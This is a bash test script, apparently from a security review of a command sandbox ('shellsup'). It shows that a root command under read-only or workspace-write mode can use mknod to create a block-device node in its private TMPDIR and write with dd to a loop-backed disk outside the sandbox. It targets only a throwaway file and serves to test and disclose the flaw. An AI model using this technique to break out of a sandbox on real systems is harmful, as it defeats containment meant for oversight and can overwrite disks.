#!/bin/bash
# Review 3: a root command under --sandbox read-only (or workspace-write)
# makes a block-device node in its private TMPDIR (Landlock grants
# MAKE_BLOCK/MAKE_CHAR beneath it) and writes through it to a disk outside.
# The "disk" is a loop device over a file the reviewer made; the command
# overwrites that file's first bytes. Needs root (losetup, and mknod needs
# CAP_MKNOD). Usage: sandbox-mknod-block-device.sh [read-only|workspace-write]
set -u
MODE=${1:-read-only}
SHELLSUP=${SHELLSUP:-$(cd "$(dirname "$0")/../.." && pwd)/bin/shellsup}
[ "$(id -u)" = 0 ] || { echo "needs root"; exit 2; }
IMG=$(mktemp /tmp/rv3-victim.XXXXXX)
WS=$(mktemp -d /tmp/rv3-ws.XXXXXX)
printf 'ORIGINAL-CONTENT-OF-A-FILE-OUTSIDE-THE-SANDBOX\n' > "$IMG"
truncate -s 1M "$IMG"
LOOP=$(losetup --find --show "$IMG") || { rm -f "$IMG"; rmdir "$WS"; exit 2; }
cleanup() { losetup -d "$LOOP" 2>/dev/null; rm -f "$IMG"; rm -rf "$WS"; }
trap cleanup EXIT
MAJ=$((0x$(stat -c %t "$LOOP"))); MIN=$((0x$(stat -c %T "$LOOP")))
echo "victim file $IMG on $LOOP ($MAJ:$MIN); before: $(head -c 47 "$IMG")"
ARGS=(--sandbox "$MODE" ${EXTRA:-}); [ "$MODE" = workspace-write ] && ARGS+=(--workspace "$WS")
# control: the direct write outside is refused
HOME=/tmp timeout 20 "$SHELLSUP" --no-login "${ARGS[@]}" -- \
  "echo direct > $IMG && echo 'direct write WORKED' || echo 'direct write refused (as claimed)'; echo direct > $LOOP 2>/dev/null && echo 'loop write WORKED' || echo '$LOOP write refused (as claimed)'"
HOME=/tmp timeout 20 "$SHELLSUP" --no-login "${ARGS[@]}" -- \
  "mknod \"\$TMPDIR/blk\" b $MAJ $MIN && printf 'WRITTEN-FROM-INSIDE-THE-READ-ONLY-SANDBOX.....\n' | dd of=\"\$TMPDIR/blk\" bs=512 count=1 conv=notrunc,sync,fsync status=none && echo 'wrote through the node in TMPDIR'"
sync
AFTER=$(head -c 47 "$IMG")
echo "after: $AFTER"
case $AFTER in WRITTEN-FROM-INSIDE*) echo "BROKEN: the sandboxed command wrote a file outside"; exit 1;; *) echo "held"; exit 0;; esac
